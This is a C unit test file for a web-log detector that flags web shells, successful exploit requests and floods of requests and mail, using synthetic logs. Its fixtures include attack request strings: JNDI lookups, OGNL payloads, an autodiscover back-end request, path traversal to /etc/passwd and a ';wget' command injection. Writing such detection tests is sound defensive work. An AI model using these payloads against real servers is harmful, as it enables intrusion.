/* test_behaviour_web: pages that intruders leave and everyday pages beside them; requests of known forms; floods of requests and mail. */
#include "made_acts.h"

#include "detection/behaviour_request.h"

#define DAYS(n) ((int64_t)(n)*86400)
#define HOURS(n) ((int64_t)(n)*3600)

/* Sixty days of a server that forty people visit: pages, pictures, a script that all of them use. */
static void everyday(struct made *m) {
    made_add(m, ACT_HOST_NAME, .host = "web01.chamber.example", .address = "10.0.0.5");
    for (int day = 0; day < 60; day++)
        for (int n = 0; n < 8; n++) {
            char address[32];
            int64_t const at = DAYS(day) + HOURS(8 + n);

            snprintf(address, sizeof address, "192.0.2.%d", (day * 8 + n) % 40 + 1);
            made_add(m, ACT_WEB_REQUEST, at, .server = "10.0.0.5", .address = address, .program = "Firefox/1.0",
                     .object = "/index.php?page=1", .verb = "GET 200", .detail = "https://search.example/");
            made_add(m, ACT_WEB_REQUEST, at + 1, .server = "10.0.0.5", .address = address, .program = "Firefox/1.0",
                     .object = "/style.css", .verb = "GET 200", .detail = "https://www.chamber.example/index.php");
        }
}

static const char *const relays[] = {"198.51.100.7", "203.0.113.70", "198.18.5.9", "198.19.7.7"};

/* Visits of a page: three requests a day. */
struct visits {
    const char *object, *verb, *referrer, *account, *program, *address, *server, *host;
    int first_day, every, days; /* defaults: day 30, every 4th, 5 of them */
    enum act_outcome outcome;
    int per_day;
    bool one_address, many_programs, other_pages;
};

static void visit(struct made *m, const struct visits *v) {
    for (int day = 0; day < (v->days ? v->days : 5); day++)
        for (int n = 0; n < (v->per_day ? v->per_day : 3); n++) {
            const char *const address = v->address ? v->address : relays[v->one_address ? 0 : day % 3];
            const char *const program = v->program         ? v->program
                                        : v->many_programs ? (day % 2 ? "curl/7.1" : "Opera/9.0")
                                                           : "Chrome/83.0";
            int64_t const at =
                DAYS((v->first_day ? v->first_day : 30) + day * (v->every ? v->every : 4)) + HOURS(3) + n * 20;

            made_add(m, ACT_WEB_REQUEST, at,
                     .server = v->server ? v->server
                               : v->host ? NULL
                                         : "10.0.0.5",
                     .host = v->host, .address = address, .program = program, .object = v->object,
                     .verb = v->verb ? v->verb : "POST 200", .detail = v->referrer, .account = v->account,
                     .outcome = v->outcome);
            for (int k = 0; v->other_pages && k < 2; k++)
                made_add(m, ACT_WEB_REQUEST, at + 1 + k, .server = "10.0.0.5", .address = address, .program = program,
                         .object = k ? "/style.css" : "/logo.png", .verb = "GET 200");
        }
}

#define SHELL "/img/t.aspx"

static const struct {
    const char *name;
    struct visits visits;
    size_t hits;
} pages[] = {
    {"a script among pictures, posted to, from three networks", {.object = SHELL}, 1},
    {"asked with a query, by GET", {.object = SHELL "?c=1", .verb = "GET 200"}, 1},
    {"its own form sends itself", {.object = SHELL, .referrer = "https://www.chamber.example" SHELL "?a=1"}, 1},
    {"behind a script's name", {.object = "/img/t.jsp/x/y;a=b?c"}, 1},
    {"one visitor", {.object = SHELL, .one_address = true}, 1},
    {"twice on two days", {.object = SHELL, .days = 2, .per_day = 2}, 1},
    {"a server without address, by its name",
     {.object = SHELL, .host = "www2.chamber.example"},
     0}, /* its log begins with it */
    {"there while the log began", {.object = SHELL, .first_day = 3}, 0},
    {"from inside", {.object = SHELL, .address = "10.0.0.77"}, 0},
    {"another page leads to it", {.object = SHELL, .referrer = "https://www.chamber.example/menu.aspx"}, 0},
    {"its visitors load pictures", {.object = SHELL, .other_pages = true}, 0},
    {"with accounts", {.object = SHELL, .account = "jo"}, 0},
    {"one day", {.object = SHELL, .days = 1}, 0},
    {"refused", {.object = SHELL, .verb = "POST 404", .outcome = OUTCOME_FAILURE}, 0},
    {"said to go on elsewhere", {.object = SHELL, .verb = "POST 302", .outcome = OUTCOME_OTHER}, 0},
    {"no script", {.object = "/img/t.png"}, 0},
    {"a folder", {.object = "/img/t.aspx.d/"}, 0},
    {"a script that all use", {.object = "/index.php"}, 0},
};

static void pages_are_told_apart(void **state) {
    (void)state;
    for (size_t i = 0; i < COUNT(pages); i++) {
        struct made m;

        made_begin(&m);
        everyday(&m);
        visit(&m, &pages[i].visits);
        made_run(&m, behaviour_web);
        if (made_hits(&m, "web-shell") != pages[i].hits || m.count != pages[i].hits)
            fail_msg("%s: %zu hits of %zu", pages[i].name, made_hits(&m, "web-shell"), m.count);
        made_end(&m);
    }
}

static void a_page_has_its_parts_and_events(void **state) {
    struct made m;
    const struct found *f;

    (void)state;
    made_begin(&m);
    everyday(&m);
    visit(&m, &(struct visits){.object = SHELL});
    /* Cleaned: its visitor asks in vain, and so does a scanner. */
    made_add(&m, ACT_WEB_REQUEST, DAYS(55), .server = "10.0.0.5", .address = relays[0], .object = SHELL,
             .verb = "POST 404", .outcome = OUTCOME_FAILURE);
    made_add(&m, ACT_WEB_REQUEST, DAYS(56), .server = "10.0.0.5", .address = "192.0.2.200", .object = SHELL,
             .verb = "GET 404", .outcome = OUTCOME_FAILURE);
    made_run(&m, behaviour_web);
    assert_int_equal(m.count, 1);
    f = made_first(&m, "web-shell");
    assert_int_equal(f->events, 5 * 3 + 1);
    assert_int_equal(made_part(&m, f, PART_PAGE, SHELL), PART_OWN);
    assert_int_equal(made_part(&m, f, PART_HOST, "web01.chamber.example"), PART_REACHED);
    for (size_t i = 0; i < 3; i++)
        assert_int_equal(made_part(&m, f, PART_ADDRESS, relays[i]), PART_OWN);
    assert_int_equal(made_part(&m, f, PART_ADDRESS, "192.0.2.200"), PART_ABSENT);
    assert_int_equal(f->like, 1);
    assert_int_equal(f->of, 2); /* it and index.php */
    assert_non_null(strstr(f->reason, "first answered on 2021-01-31, 29 days after"));
    assert_non_null(strstr(f->reason, "15 requests on 5 days to 2021-02-16, 15 of them POST, from 3 networks"));
    made_end(&m);
}

static double weight_of(const struct visits *v) {
    struct made m;
    double weight;

    made_begin(&m);
    everyday(&m);
    visit(&m, v);
    made_run(&m, behaviour_web);
    weight = made_first(&m, "web-shell")->weight;
    made_end(&m);
    return weight;
}

static void what_weighs_more(void **state) {
    double const usual = weight_of(&(struct visits){.object = SHELL});

    (void)state;
    assert_true(weight_of(&(struct visits){.object = SHELL, .verb = "GET 200"}) < usual);
    assert_true(weight_of(&(struct visits){.object = SHELL, .many_programs = true}) < usual);
    assert_true(weight_of(&(struct visits){.object = SHELL, .one_address = true}) < usual);
    assert_true(weight_of(&(struct visits){.object = "/tool.php"}) < usual); /* beside index.php */
    assert_true(weight_of(&(struct visits){.object = SHELL, .every = 1, .days = 20}) <
                usual - 1); /* a machine, daily */
}

static void few_requests_say_nothing(void **state) {
    struct made m;

    (void)state;
    made_begin(&m);
    made_add(&m, ACT_WEB_REQUEST, 0, .server = "10.0.0.5", .address = "192.0.2.1", .object = "/", .verb = "GET 200");
    visit(&m, &(struct visits){.object = SHELL});
    made_run(&m, behaviour_web);
    assert_int_equal(m.count, 0);
    made_end(&m);
}

static void a_page_that_hundreds_visit_is_none(void **state) {
    struct made m;

    (void)state;
    made_begin(&m);
    everyday(&m);
    for (int i = 0; i < 200; i++) {
        char address[32];

        snprintf(address, sizeof address, "198.18.%d.9", i);
        visit(&m,
              &(struct visits){.object = SHELL, .address = address, .first_day = 30 + i % 9, .days = 1, .per_day = 1});
    }
    made_run(&m, behaviour_web);
    assert_int_equal(m.count, 0);
    made_end(&m);
}

/* One visitor of two pages: neither is "much else" beside the other. */
static void two_pages_of_one_intruder(void **state) {
    struct made m;

    (void)state;
    made_begin(&m);
    everyday(&m);
    visit(&m, &(struct visits){.object = SHELL, .one_address = true});
    visit(&m, &(struct visits){.object = "/css/u.php", .one_address = true, .first_day = 40, .every = 2});
    made_run(&m, behaviour_web);
    assert_int_equal(made_hits(&m, "web-shell"), 2);
    for (size_t i = 0; i < 2; i++)
        assert_int_equal(made_part(&m, &m.found[i], PART_ADDRESS, relays[0]), PART_OWN);
    made_end(&m);
}

/* The log knows the server by a name; the file, or what its worker starts right then, leads to the host. */
static void where_a_name_stands(void **state) {
    static const struct {
        const char *name;
        enum act act;
        const char *object, *detail;
        int64_t at; /* seconds behind the request of a known form */
        bool everyday, second;
        enum made_part part;
    } cases[] = {
        {"the file is taken away", ACT_FILE_DELETE, "C:\\Tomcat\\webapps\\IMG\\t.aspx", "", DAYS(25), false, false,
         PART_REACHED},
        {"another file of that name", ACT_FILE_DELETE, "C:\\Users\\jo\\t.aspx", "", DAYS(25), false, false,
         PART_ABSENT},
        {"its worker starts a shell", ACT_PROCESS, "cmd.exe /c dir", "C:\\tomcat\\bin\\tomcat9.exe", 40, false, false,
         PART_REACHED},
        {"a shell that is started daily", ACT_PROCESS, "cmd.exe /c dir", "C:\\tomcat\\bin\\tomcat9.exe", 40, true,
         false, PART_ABSENT},
        {"on two hosts", ACT_PROCESS, "cmd.exe /c dir", "C:\\tomcat\\bin\\tomcat9.exe", 40, false, true, PART_ABSENT},
        {"an hour later", ACT_PROCESS, "cmd.exe /c dir", "C:\\tomcat\\bin\\tomcat9.exe", HOURS(1), false, false,
         PART_ABSENT},
        {"somebody's own shell", ACT_PROCESS, "cmd.exe /c dir", "C:\\Windows\\explorer.exe", 40, false, false,
         PART_ABSENT},
    };

    (void)state;
    for (size_t i = 0; i < COUNT(cases); i++) {
        struct made m;
        int64_t const at = DAYS(30) + HOURS(3) + cases[i].at;

        made_begin(&m);
        for (int n = 0; n < 300; n++)
            made_add(&m, ACT_WEB_REQUEST, DAYS(n / 10), .host = "www.chamber.example", .address = "192.0.2.1",
                     .object = "/", .verb = "GET 200");
        visit(&m, &(struct visits){.object = SHELL, .host = "www.chamber.example"});
        made_add(&m, cases[i].act, at, .host = "APP01", .object = cases[i].object, .detail = cases[i].detail,
                 .program = "C:\\Windows\\System32\\cmd.exe");
        if (cases[i].second)
            made_add(&m, cases[i].act, at + 5, .host = "APP02", .object = cases[i].object, .detail = cases[i].detail);
        for (int day = 0; cases[i].everyday && day < 20; day++)
            made_add(&m, cases[i].act, DAYS(day), .host = "APP01", .object = cases[i].object,
                     .detail = cases[i].detail);
        made_run(&m, behaviour_web);
        if (made_part(&m, made_first(&m, "web-shell"), PART_HOST, "APP01") != cases[i].part)
            fail_msg("%s", cases[i].name);
        assert_int_equal(made_part(&m, made_first(&m, "web-shell"), PART_HOST, "www.chamber.example"), PART_REACHED);
        made_end(&m);
    }
}

/* ---- known forms ---- */

#define LOOKUP "/search?q=%24%7Bjndi%3Aldap://x.test/a%7D"

static void tried(struct made *m, int64_t at, const char *address, const char *object, bool ok) {
    made_add(m, ACT_WEB_REQUEST, at, .server = "10.0.0.5", .address = address, .object = object,
             .verb = ok ? "GET 200" : "GET 400", .outcome = ok ? OUTCOME_SUCCESS : OUTCOME_FAILURE);
}

static const struct {
    const char *name;
    int refused, succeeded; /* other networks */
    const char *address;    /* whose success it is */
    const char *also[3];    /* what it is refused */
    bool page;              /* a new script answers it within the hour */
    int64_t later;          /* than the request, seconds */
    size_t exploits, shells;
} attempts[] = {
    {"refused to others", 5, 0, "198.51.100.7", {NULL}, false, 0, 1, 0},
    {"refused to others, then a page", 5, 0, "198.51.100.7", {NULL}, true, 600, 1, 1},
    {"refused to nobody, then a page", 0, 0, "198.51.100.7", {NULL}, true, 600, 1, 1},
    {"a scanner, then a page", 5, 0, "198.51.100.7", {"/?x=%{(#a)}", "/../../etc/passwd"}, true, 600, 1, 1},
    {"refused to nobody, and nothing behind it", 0, 0, "198.51.100.7", {NULL}, false, 0, 0, 0},
    {"refused to two", 2, 0, "198.51.100.7", {NULL}, false, 0, 0, 0},
    {"many succeed", 5, 5, "198.51.100.7", {NULL}, false, 0, 0, 0},
    {"a scanner that succeeds once", 5, 0, "198.51.100.7", {"/?x=%{(#a)}", "/../../etc/passwd"}, false, 0, 0, 0},
    {"the house's own scanner", 5, 0, "10.0.0.99", {NULL}, false, 0, 0, 0},
    {"a page two hours later", 0, 0, "198.51.100.7", {NULL}, true, HOURS(2), 0, 0},
};

static void a_success_among_refusals(void **state) {
    (void)state;
    for (size_t i = 0; i < COUNT(attempts); i++) {
        struct made m;
        int64_t const at = DAYS(40) + HOURS(2);
        char address[32];

        made_begin(&m);
        everyday(&m);
        for (int n = 0; n < attempts[i].refused + attempts[i].succeeded; n++) {
            snprintf(address, sizeof address, "198.18.%d.1", n);
            tried(&m, DAYS(n), address, LOOKUP, n >= attempts[i].refused);
        }
        tried(&m, at, attempts[i].address, LOOKUP, true);
        for (size_t k = 0; k < COUNT(attempts[i].also) && attempts[i].also[k]; k++)
            tried(&m, at + 1, attempts[i].address, attempts[i].also[k], false);
        for (int n = 0; attempts[i].page && n < 3; n++)
            made_add(&m, ACT_WEB_REQUEST, at + attempts[i].later + n, .server = "10.0.0.5",
                     .address = attempts[i].address, .object = SHELL, .verb = "POST 200");
        made_run(&m, behaviour_web);
        if (made_hits(&m, "exploit-success") != attempts[i].exploits ||
            made_hits(&m, "web-shell") != attempts[i].shells)
            fail_msg("%s: %zu, %zu", attempts[i].name, made_hits(&m, "exploit-success"), made_hits(&m, "web-shell"));
        if (attempts[i].exploits) {
            const struct found *const f = made_first(&m, "exploit-success");
            size_t own = 1;

            for (size_t k = 0; k < COUNT(attempts[i].also) && attempts[i].also[k]; k++)
                own++;
            assert_int_equal(f->events, own);
            assert_int_equal(made_part(&m, f, PART_ADDRESS, attempts[i].address), PART_OWN);
            assert_int_equal(made_part(&m, f, PART_HOST, "web01.chamber.example"), PART_REACHED);
            if (attempts[i].page) {
                assert_int_equal(made_part(&m, f, PART_PAGE, SHELL), PART_OWN);
                assert_int_equal(made_first(&m, "web-shell")->events, 3 + own); /* what came before is its event, too */
            }
        }
        made_end(&m);
    }
}

/* A form that nobody knows: a script that others are refused lets one in, who finds another new one. */
static void whatever_the_form(void **state) {
    static const struct {
        const char *name;
        int refused, succeeded;
        bool page;
        size_t hits;
    } cases[] = {{"then a page", 5, 0, true, 1},
                 {"and nothing behind it", 5, 0, false, 0},
                 {"refused to two", 2, 0, true, 0},
                 {"it answers others, too", 5, 2, true, 0}};

    (void)state;
    for (size_t i = 0; i < COUNT(cases); i++) {
        struct made m;
        char address[32];

        made_begin(&m);
        everyday(&m);
        for (int n = 0; n < cases[i].refused + cases[i].succeeded; n++) {
            snprintf(address, sizeof address, "198.18.%d.1", n);
            tried(&m, DAYS(20 + n), address, "/setup.php?a=1", n >= cases[i].refused);
        }
        tried(&m, DAYS(40), "198.51.100.7", "/setup.php?a=1", true);
        tried(&m, DAYS(40) + 9, "198.51.100.7", "/setup.php?b=2", true);
        if (cases[i].page)
            tried(&m, DAYS(40) + 900, "198.51.100.7", SHELL, true);
        made_run(&m, behaviour_web);
        if (made_hits(&m, "exploit-success") != cases[i].hits)
            fail_msg("%s: %zu", cases[i].name, m.count);
        if (cases[i].hits) {
            assert_int_equal(m.count, 1);
            assert_int_equal(m.found[0].events, 2);
            assert_int_equal(made_part(&m, &m.found[0], PART_PAGE, SHELL), PART_OWN);
            assert_non_null(strstr(m.found[0].reason, "answered 2 requests"));
            assert_non_null(strstr(m.found[0].reason, "5 other networks were refused the same"));
        }
        made_end(&m);
    }
}

/* A server that answers everything, and a scanner that succeeds with whatever it tries. */
static void a_server_that_answers_everything(void **state) {
    (void)state;
    for (int scripts = 5; scripts <= 50; scripts += 45) {
        struct made m;
        char object[32];

        made_begin(&m);
        everyday(&m);
        tried(&m, DAYS(40), "198.51.100.7", LOOKUP, true);
        for (int n = 0; n < 3 * scripts; n++) {
            snprintf(object, sizeof object, "/d%d/x.php", n % scripts);
            tried(&m, DAYS(40) + 10 + n, "198.51.100.7", object, true);
        }
        made_run(&m, behaviour_web);
        assert_int_equal(m.count, scripts == 5 ? 5 + 1 : 0);
        made_end(&m);
    }
}

/* Another address of its network was refused before; and two servers that no log names are told apart by their folders. */
static void neighbours_and_nameless(void **state) {
    struct made m;

    (void)state;
    made_begin(&m);
    for (int n = 0; n < 300; n++)
        made_add(&m, ACT_WEB_REQUEST, DAYS(n / 10), .source = n % 2 ? "a/access.log" : "b/access.log",
                 .address = "192.0.2.1", .object = n % 2 ? "/t.php" : "/", .verb = "GET 200");
    for (int n = 0; n < 250; n++)
        made_add(&m, ACT_WEB_REQUEST, DAYS(1), .source = "b/access.log", .address = "192.0.2.1", .object = "/",
                 .verb = "GET 200");
    for (int n = 0; n < 3; n++) {
        made_add(&m, ACT_WEB_REQUEST, DAYS(40) + n, .source = "b/access.log", .address = "198.51.100.7",
                 .object = LOOKUP, .verb = "GET 200");
        made_add(&m, ACT_WEB_REQUEST, DAYS(40) + 90 + n, .source = "b/access.log", .address = "198.51.100.7",
                 .object = "/t.php", .verb = "POST 200");
        made_add(&m, ACT_WEB_REQUEST, DAYS(20) + n, .source = "b/access.log", .address = "198.51.100.8",
                 .object = LOOKUP, .verb = "GET 400", .outcome = OUTCOME_FAILURE);
    }
    made_add(&m, ACT_WEB_REQUEST, DAYS(40) + 60, .source = "c/access.log", .address = "198.51.100.7",
             .object = "/t.php", .verb = "POST 200");
    made_run(&m, behaviour_web);
    assert_int_equal(made_hits(&m, "web-shell"), 1); /* t.php is everyday in a/ */
    assert_int_equal(made_first(&m, "web-shell")->events,
                     3 + 3 + 1); /* with all that its visitor asked for in the hour */
    assert_int_equal(made_first(&m, "exploit-success")->events, 3);
    assert_int_equal(made_part(&m, made_first(&m, "exploit-success"), PART_ADDRESS, "198.51.100.8"), PART_ABSENT);
    assert_int_equal(made_part(&m, made_first(&m, "web-shell"), PART_HOST, "192.0.2.1"), PART_ABSENT);
    made_end(&m);
}

static const struct {
    const char *name;
    str object;
    enum request_form form;
} forms[] = {
    {"lookup", STR("/a?b=${jndi:ldap://x}"), FORM_LOOKUP},
    {"lookup, encoded", STR("/a?b=%24%7Bjndi%3A[elided]%7D"), FORM_LOOKUP},
    {"lookup, encoded twice", STR("/a?b=%2524%257Bjndi%253Aldap"), FORM_LOOKUP},
    {"lookup, encoded as UTF-16", STR("/a?b=%u0024%u007bjndi:x}"), FORM_LOOKUP},
    {"lookup, taken apart", STR("/a?b=${${lower:j}ndi:x}"), FORM_LOOKUP},
    {"lookup, capitals", STR("/a?b=${JNDI:ldap}"), FORM_LOOKUP},
    {"expression", STR("/a?b=%25%7b(%23_memberAccess)%7d"), FORM_EXPRESSION},
    {"class loader", STR("/a?class.module.classLoader.x=1"), FORM_EXPRESSION},
    {"back-end", STR("/autodiscover/autodiscover.json?@x.test/mapi/nspi/?&Email=a%3F@x.test"), FORM_BACK_END},
    {"back-end, encoded", STR("/autodiscover/autodiscover.json?%40x.test/PowerShell/"), FORM_BACK_END},
    {"out of the folder", STR("/a/..%2f../../etc/x"), FORM_TRAVERSAL},
    {"past the guard", STR("/a/..;/manager"), FORM_TRAVERSAL},
    {"command", STR("/a?b=;wget%20http://x"), FORM_COMMAND},
    {"code", STR("/a?b=%3C?php"), FORM_COMMAND},
    {"nothing", STR("/a?b=c"), FORM_NONE},
    {"empty", STR(""), FORM_NONE},
    {"a dollar", STR("/a?price=$5"), FORM_NONE},
    {"a template's name", STR("/a?b=${name}"), FORM_NONE},
    {"somebody's autodiscover", STR("/autodiscover/autodiscover.json?Email=jo@x.test&Protocol=Ews"), FORM_NONE},
    {"who am I", STR("/api/whoami"), FORM_NONE},
    {"one folder up", STR("/a/../b.css"), FORM_NONE},
    {"a percent that is none", STR("/a?b=100%&c=%zz%2"), FORM_NONE},
    {"NUL", STR("/a\0${jndi"), FORM_NONE},
};

static void forms_of_requests(void **state) {
    char long_text[REQUEST_MAX + 64];

    (void)state;
    for (size_t i = 0; i < COUNT(forms); i++)
        if (request_form_of(forms[i].object) != forms[i].form)
            fail_msg("%s: %d", forms[i].name, (int)request_form_of(forms[i].object));
    memset(long_text, 'a', sizeof long_text);
    memcpy(long_text + 100, "${jndi:", 7);
    assert_int_equal(request_form_of((str){long_text, sizeof long_text}), FORM_LOOKUP);
}

static const struct {
    str object;
    bool path;
    str is, script;
} targets[] = {
    {STR("/a/b.php?c=/d.asp"), true, STR("/a/b.php"), STR("/a/b.php")},
    {STR("/a/b.PHP/c/d"), true, STR("/a/b.PHP/c/d"), STR("/a/b.PHP")},
    {STR("/a.jsp;id=1/b"), true, STR("/a.jsp;id=1/b"), STR("/a.jsp")},
    {STR("www.x.test/a.cgi"), true, STR("/a.cgi"), STR("/a.cgi")},
    {STR("http://x.php/a/"), true, STR("/a/"), STR("")},
    {STR("/"), true, STR("/"), STR("")},
    {STR("/.php"), true, STR("/.php"), STR("")}, /* a hidden file */
    {STR("/a.phps"), true, STR("/a.phps"), STR("")},
    {STR("/php/"), true, STR("/php/"), STR("")},
    {STR("shop.example:443"), false, STR(""), STR("")},
    {STR("?/a.php"), false, STR(""), STR("")},
    {STR("*"), false, STR(""), STR("")},
    {STR(""), false, STR(""), STR("")},
};

static void targets_of_requests(void **state) {
    (void)state;
    for (size_t i = 0; i < COUNT(targets); i++) {
        struct request_target t;
        bool const path = request_target_of(targets[i].object, &t);

        if (path != targets[i].path ||
            (path && (!str_eq(t.path, targets[i].is) || !str_eq(t.script, targets[i].script))))
            fail_msg("%.*s", STR_ARG(targets[i].object));
    }
}

/* ---- floods ---- */

static const struct {
    const char *name;
    int day, minutes, a_minute; /* of the flood */
    int usual;                  /* requests in a minute on the days before */
    bool folded;                /* one activity stands for all of it */
    size_t hits;
} floods[] = {
    {"a thousand a minute", 20, 6, 1000, 2, false, 1}, {"one activity for all", 20, 6, 1000, 2, true, 1},
    {"on the first day", 0, 6, 1000, 2, false, 0},     {"three minutes", 20, 3, 1000, 2, false, 0},
    {"a hundred a minute", 20, 6, 100, 2, false, 0},   {"what is usual there", 20, 6, 400, 30, false, 0},
};

static void floods_of_requests(void **state) {
    (void)state;
    for (size_t i = 0; i < COUNT(floods); i++) {
        struct made m;
        int const all = floods[i].minutes * floods[i].a_minute;

        made_begin(&m);
        made_add(&m, ACT_HOST_NAME, .host = "web01.chamber.example", .address = "10.0.0.5");
        for (int day = 0; day < 20; day++)
            for (int n = 0; n < floods[i].usual; n++)
                made_add(&m, ACT_WEB_REQUEST, DAYS(day) + HOURS(10), .server = "10.0.0.5", .address = "192.0.2.1",
                         .object = "/", .verb = "GET 200");
        for (int n = 0; n < (floods[i].folded ? 1 : all); n++)
            made_add(&m, ACT_WEB_REQUEST, DAYS(floods[i].day) + HOURS(12) + n * 60 / floods[i].a_minute,
                     .server = "10.0.0.5", .address = n % 2 ? "198.51.100.1" : "198.51.100.2", .object = "/",
                     .verb = "GET 503", .outcome = OUTCOME_FAILURE, .count = floods[i].folded ? (uint32_t)all : 1,
                     .lasts = floods[i].folded ? floods[i].minutes * 60 - 1 : 0);
        made_run(&m, behaviour_web);
        if (m.count != floods[i].hits)
            fail_msg("%s: %zu", floods[i].name, m.count);
        if (floods[i].hits) {
            const struct found *const f = made_first(&m, "request-flood");

            assert_int_equal(f->stands_for, all);
            assert_int_equal(made_part(&m, f, PART_ADDRESS, "198.51.100.2"), PART_OWN);
            assert_int_equal(made_part(&m, f, PART_ADDRESS, "192.0.2.1"), PART_ABSENT);
            assert_int_equal(made_part(&m, f, PART_HOST, "web01.chamber.example"), PART_REACHED);
            assert_non_null(strstr(f->reason, "asked 6000 times in 6 minutes"));
            assert_non_null(strstr(f->reason, "100 % were refused or failed, 0 % until then"));
        }
        made_end(&m);
    }
}

static const struct {
    const char *name;
    const char *from;
    int messages, domains, day, habit; /* habit: messages on each Friday before */
    size_t hits;
} mails[] = {
    {"from the server itself", "127.0.0.1", 60, 7, 33, 0, 1},
    {"from a desk inside", "10.0.0.9", 60, 7, 33, 0, 1},
    {"a habit that grows tenfold", "10.0.0.9", 60, 7, 33, 5, 1},
    {"to one domain", "10.0.0.9", 60, 1, 33, 0, 0},
    {"a weekly letter", "10.0.0.9", 60, 7, 33, 50, 0},
    {"few", "10.0.0.9", 20, 7, 33, 0, 0},
    {"from outside: it comes in", "198.51.100.1", 60, 7, 33, 0, 0},
    {"the log is young", "127.0.0.1", 60, 7, 3, 0, 0},
};

static void add_mails(struct made *m, const char *from, int messages, int domains, int day) {
    for (int n = 0; n < messages; n++) {
        char to[64];

        snprintf(to, sizeof to, "customer%d@shop%d.test", n, n % domains);
        made_add(m, ACT_MAIL_OUT, DAYS(day) + HOURS(1) + n * 30, .account = "scanner@chamber.example", .object = to,
                 .host = "WEB01", .server = "10.0.0.5", .address = from, .detail = "Your parcel");
    }
}

static void floods_of_mail(void **state) {
    (void)state;
    for (size_t i = 0; i < COUNT(mails); i++) {
        struct made m;

        made_begin(&m);
        made_add(&m, ACT_MAIL_OUT, 0, .account = "jo@chamber.example", .object = "a@shop.test", .host = "WEB01",
                 .server = "10.0.0.5", .address = "10.0.0.9");
        for (int week = 0; mails[i].habit && week * 7 < mails[i].day; week++)
            add_mails(&m, mails[i].from, mails[i].habit, mails[i].domains, week * 7);
        add_mails(&m, mails[i].from, mails[i].messages, mails[i].domains, mails[i].day);
        made_run(&m, behaviour_web);
        if (m.count != mails[i].hits)
            fail_msg("%s: %zu", mails[i].name, m.count);
        if (mails[i].hits) {
            assert_int_equal(m.found[0].events, 60);
            assert_int_equal(made_part(&m, &m.found[0], PART_ACCOUNT, "scanner@chamber.example"), PART_REACHED);
            assert_int_equal(made_part(&m, &m.found[0], PART_HOST, "WEB01"), PART_REACHED);
        }
        made_end(&m);
    }
}

/* Spam is the symptom of a page on that server, while it is there. */
static void mail_of_a_server_with_a_page(void **state) {
    double weights[2];

    (void)state;
    for (int late = 0; late < 2; late++) {
        struct made m;
        const struct found *f;

        made_begin(&m);
        everyday(&m);
        visit(&m, &(struct visits){.object = SHELL}); /* to day 46 */
        made_add(&m, ACT_MAIL_OUT, 0, .account = "jo@chamber.example", .object = "a@shop.test", .host = "WEB01",
                 .server = "10.0.0.5", .address = "10.0.0.9");
        add_mails(&m, "127.0.0.1", 60, 7, late ? 90 : 50);
        made_run(&m, behaviour_web);
        f = made_first(&m, "mail-flood");
        assert_int_equal(made_part(&m, f, PART_PAGE, SHELL), late ? PART_ABSENT : PART_OWN);
        weights[late] = f->weight;
        made_end(&m);
    }
    assert_true(weights[0] > weights[1] + 1);
}

static void nothing_is_nothing(void **state) {
    struct made m;

    (void)state;
    made_begin(&m);
    made_run(&m, behaviour_web);
    assert_int_equal(m.count, 0);
    made_end(&m);
    made_begin(&m); /* acts without most of what acts have */
    made_add(&m, ACT_WEB_REQUEST, 0, .object = "/a.php");
    made_add(&m, ACT_WEB_REQUEST, 1, .address = "192.0.2.1");
    made_add(&m, ACT_MAIL_OUT, 2, .object = "@");
    made_run(&m, behaviour_web);
    assert_int_equal(m.count, 0);
    made_end(&m);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(pages_are_told_apart),
        cmocka_unit_test(a_page_has_its_parts_and_events),
        cmocka_unit_test(what_weighs_more),
        cmocka_unit_test(few_requests_say_nothing),
        cmocka_unit_test(a_page_that_hundreds_visit_is_none),
        cmocka_unit_test(two_pages_of_one_intruder),
        cmocka_unit_test(where_a_name_stands),
        cmocka_unit_test(a_success_among_refusals),
        cmocka_unit_test(whatever_the_form),
        cmocka_unit_test(a_server_that_answers_everything),
        cmocka_unit_test(neighbours_and_nameless),
        cmocka_unit_test(forms_of_requests),
        cmocka_unit_test(targets_of_requests),
        cmocka_unit_test(floods_of_requests),
        cmocka_unit_test(floods_of_mail),
        cmocka_unit_test(mail_of_a_server_with_a_page),
        cmocka_unit_test(nothing_is_nothing),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
